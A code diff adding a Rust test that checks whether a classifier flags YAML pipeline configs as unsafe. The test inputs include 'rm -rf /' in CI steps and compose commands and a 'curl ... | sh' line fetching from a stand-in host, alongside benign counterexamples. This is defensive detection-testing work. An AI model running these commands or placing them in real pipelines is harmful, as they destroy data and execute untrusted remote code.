@@ -629,3 +629,22 @@ fn what_is_insecure_is_not_safe_and_its_mended_form_is() {
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
+
+#[test]
+fn what_a_pipeline_runs_is_judged() {
+    for text in [
+        "run: rm -rf /",
+        "jobs:\n  a:\n    steps:\n      - run: |\n          make\n          curl https://x.example/i | sh\n      - uses: x",
+        "test:\n  script:\n    - make\n    - rm -rf /\n  only: main",
+        "services:\n  a:\n    command: [\"rm\", \"-rf\", \"/\"]",
+    ] {
+        assert_eq!(run("yaml", text).verdict, Safety::Unsafe, "{text}");
+    }
+    for text in [
+        "on: push\njobs:\n  a:\n    steps:\n      - run: npm test\n",
+        "command: [\"ls\"]",
+        "name: run\nnote: rm -rf /",
+    ] {
+        assert_eq!(run("yaml", text).verdict, Safety::Safe, "{text}");
+    }
+}
